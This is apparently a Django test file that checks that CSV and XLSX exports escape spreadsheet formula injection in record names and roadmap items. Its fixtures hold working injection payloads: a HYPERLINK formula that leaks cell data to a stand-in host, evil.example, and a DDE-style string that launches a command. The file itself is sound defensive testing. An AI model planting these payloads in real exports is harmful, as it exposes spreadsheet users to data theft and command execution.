"""No record's text becomes a live spreadsheet formula in an export (CSV/formula injection): every CSV
and XLSX export passes its cells through ``visd.core.exports.safe_cell``."""

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook
from programme_world import *  # noqa: F401,F403
from stakeholder_world import *  # noqa: F401,F403
from test_yearly_report import YEAR
from test_yearly_report import world as report_world  # noqa: F401 (fixture)

from visd.roadmaps import actions

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_an_actor_name_that_is_a_formula_is_text_in_the_yearly_report_xlsx(report_world, client):  # noqa: F811
    actor = report_world.in_domain
    actor.name = FORMULA
    actor.save()
    client.force_login(report_world.director)
    response = client.get(reverse("programme:report"), {"year": YEAR, "scope": "programme", "format": "xlsx"})
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "no cell is a formula"
    named = [cell for cell in cells if isinstance(cell.value, str) and FORMULA in cell.value]
    assert named, "the actor is in the workbook"
    for cell in named:
        assert cell.data_type == "s"
        assert cell.value.startswith("'") or not cell.value.startswith(("=", "+", "-", "@"))
    assert any(cell.value == "'" + FORMULA for cell in named)


def test_roadmap_items_that_are_formulas_are_text_in_the_csv(programme, world, users, client):
    roadmap = programme.draft
    user = users["pm_of_a"]
    actions.update_roadmap(roadmap, {"introduction": "Visie"}, acting_user=user, expected_revision=None)
    actions.add_item(roadmap, {"kind": "technology", "title": FORMULA, "description": "@SUM(1+1)*cmd|' /C calc'!A0",
                               "start_year": 2026, "end_year": 2030}, acting_user=user, related_domains=[world.cyber])
    actions.add_item(roadmap, {"kind": "technology", "title": "-2+3", "description": "+cmd", "start_year": 2026,
                               "end_year": 2027}, acting_user=user, related_domains=[])
    actions.publish(roadmap, acting_user=user)
    response = client.get(reverse("roadmaps:csv", args=[roadmap.pk]))
    rows = {row["title"]: row for row in csv.DictReader(io.StringIO(response.content.decode()))}
    assert rows["'" + FORMULA]["description"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows["'-2+3"]["description"] == "'+cmd"
    assert rows["'-2+3"]["start_year"] == "2026"
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
